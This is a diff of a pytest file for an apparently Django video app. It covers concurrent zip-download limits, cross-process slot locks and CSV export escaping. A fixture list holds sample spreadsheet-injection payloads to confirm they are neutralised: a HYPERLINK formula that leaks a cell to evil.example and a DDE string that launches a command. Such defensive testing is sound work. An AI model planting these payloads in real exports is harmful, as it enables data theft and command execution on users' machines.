@@ -5,8 +5,12 @@ from __future__ import annotations
 import csv
 import io
 import os
+import subprocess
+import sys
 import zipfile
+from collections.abc import Iterator
 from decimal import Decimal
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -18,7 +22,7 @@ from django.db import close_old_connections
 from django.test import Client
 from django.urls import reverse
 
-from playground import zipdownload
+from playground import csvexport, zipdownload
 from playground.models import Generation, State
 from tests.test_gallery import make
 from tests.test_s3 import bucket, s3_endpoint  # noqa: F401 - the moto server fixtures
@@ -114,26 +118,92 @@ def closed_early(response: Any) -> None:
         request_finished.connect(close_old_connections)
 
 
-def test_at_most_a_few_zips_stream_at_once_and_a_closed_one_frees_its_place(signed_in: Client, user):
+@pytest.fixture
+def slots(settings: Any, tmp_path: Path) -> Iterator[Path]:
+    """The per-person slot files in this test's own folder, and the process's share reset after."""
+    settings.VAR_DIR = tmp_path
+    yield tmp_path / "zip-slots"
+    zipdownload.use_threads(4)
+
+
+def refusal(response: Any) -> str:
+    assert response.status_code == 503
+    assert response["Retry-After"] == str(zipdownload.RETRY_AFTER_SECONDS)
+    return response.content.decode()
+
+
+def test_a_person_streams_at_most_two_zips_and_a_process_half_its_threads(
+    signed_in: Client, user, other_user, slots
+):
     gen = video(user, "Clip", b"x" * 10)
-    open_ones = []
-    for _ in range(zipdownload.ZIP_STREAMS_PER_PROCESS):
-        response = signed_in.post(URL, {"ids": [gen.pk]})
-        assert response.status_code == 200
-        open_ones.append(response)
-    refused = signed_in.post(URL, {"ids": [gen.pk], "next": "/gallery/"})
-    assert refused.status_code == 302
-    assert "Other zip downloads are being sent right now. Try again in a minute." in [
-        str(m) for m in get_messages(refused.wsgi_request)
-    ]
-    # One never read at all (the browser gave up) still gives its place back when closed.
-    closed_early(open_ones.pop())
-    again = signed_in.post(URL, {"ids": [gen.pk]})
+    assert zipdownload.ZIP_STREAMS_PER_PROCESS == 2  # half of the 4 threads assumed outside gunicorn
+    mine = [signed_in.post(URL, {"ids": [gen.pk]}) for _ in range(2)]
+    assert [r.status_code for r in mine] == [200, 200]
+    # A third of one's own: the person's limit, said as such, on a page with the way back.
+    page = refusal(signed_in.post(URL, {"ids": [gen.pk], "next": "/collections/"}))
+    assert "You already have 2 zip downloads running; let one finish, then try again." in page
+    assert 'href="/collections/"' in page
+    # Someone else meets the process's share (2 of its 4 threads), not the person's limit.
+    bob = Client()
+    bob.force_login(other_user)
+    assert refusal(bob.post(URL, {"ids": [gen.pk]}, headers={"HX-Request": "true"})) == (
+        "Other zip downloads are being sent right now. Try again in a minute."
+    )
+    # One never read at all (the browser gave up) still gives both its places back when closed.
+    closed_early(mine.pop())
+    again = bob.post(URL, {"ids": [gen.pk]})
     assert again.status_code == 200
-    streams: list[Any] = [*open_ones, again]
+    streams: list[Any] = [*mine, again]
     for response in streams:
         b"".join(response.streaming_content)
         closed_early(response)
+    last = signed_in.post(URL, {"ids": [gen.pk]})
+    assert last.status_code == 200
+    closed_early(last)
+
+
+@pytest.mark.parametrize(("threads", "zips"), [(1, 0), (2, 1), (3, 1), (4, 2), (8, 4), (16, 8)])
+def test_zips_take_at_most_half_of_a_process_threads_and_never_all(threads, zips):
+    assert zipdownload.streams_for(threads) == zips
+
+
+def test_with_one_thread_per_process_zips_are_refused_with_the_reason(signed_in: Client, user, slots):
+    gen = video(user, "Clip", b"x" * 10)
+    zipdownload.use_threads(1)
+    page = refusal(signed_in.post(URL, {"ids": [gen.pk]}))
+    assert "This server sends no zips: each of its web processes has one thread" in page
+    assert "GUNICORN_THREADS to 2 or more" in page
+
+
+HOLD = """
+import fcntl, os, sys
+fds = [os.open(p, os.O_RDWR | os.O_CREAT) for p in sys.argv[1:]]
+for fd in fds:
+    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
+print("held", flush=True)
+sys.stdin.read()
+"""
+
+
+def test_zips_another_web_process_streams_count_against_the_same_person(signed_in: Client, user, slots):
+    gen = video(user, "Clip", b"x" * 10)
+    slots.mkdir(parents=True)
+    # Another process (as another gunicorn worker would) holds both of alice's slots.
+    other = subprocess.Popen(
+        [sys.executable, "-c", HOLD, str(slots / f"{user.pk}-0.lock"), str(slots / f"{user.pk}-1.lock")],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+    )
+    try:
+        assert other.stdout is not None and other.stdout.readline() == b"held\n"
+        assert "You already have 2 zip downloads running" in refusal(signed_in.post(URL, {"ids": [gen.pk]}))
+    finally:
+        other.kill()
+        other.wait()
+    # The kernel let go of the dead process's locks: no lease to expire, no file to clean.
+    response = signed_in.post(URL, {"ids": [gen.pk]})
+    assert response.status_code == 200
+    closed_early(response)
 
 
 def test_with_s3_the_videos_stream_from_the_bucket(signed_in: Client, user, bucket):  # noqa: F811
@@ -173,3 +243,60 @@ def test_a_video_without_a_recorded_size_is_measured_in_storage(signed_in: Clien
     Generation.objects.filter(pk=gen.pk).update(video_size=None)
     gen.refresh_from_db()
     assert download(signed_in, [gen]).read(gen.download_name) == b"y" * (size + 5)
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tsneaky tab",
+    "\rsneaky return",
+]
+
+
+@pytest.mark.parametrize("prompt", HOSTILE)
+def test_a_prompt_a_spreadsheet_would_run_is_kept_as_readable_text(signed_in: Client, user, prompt):
+    gen = video(user, prompt, b"v")
+    row = index(download(signed_in, [gen]))[0]
+    assert row["prompt"] == "'" + prompt  # OWASP's leading apostrophe, the text itself unchanged
+    assert row["video"] == str(gen.pk)
+
+
+def test_every_index_cell_is_quoted_and_a_maker_name_cannot_start_a_formula_either(signed_in: Client, user):
+    from tests.factories import member
+
+    plotter = member("@plotter")  # Django's usernames may begin with @, + or -
+    a = video(
+        plotter, "A calm sea; =1+1 after a separator", b"a", usd_spent=Decimal("0.5"), credits_used=12.0
+    )
+    text = download(signed_in, [a]).read("index.csv").decode("utf-8-sig")
+    header, line = text.splitlines()
+    assert header == '"file","video","prompt","model","maker","date","cost_usd","credits"'
+    cells = line.split('","')
+    assert cells[0].startswith('"') and cells[-1] == '12"'
+    assert '"A calm sea; =1+1 after a separator"' in line  # one quoted cell, whatever the separator
+    assert '"\'@plotter"' in line
+    assert '"0.5"' in line
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-3", "'-3"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("\0x", "'\0x"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),
+        ("", ""),
+        (None, ""),
+        (12, "12"),
+        (Decimal("0.43"), "0.43"),
+    ],
+)
+def test_the_one_cell_rule(value, cell):
+    assert csvexport.cell(value) == cell
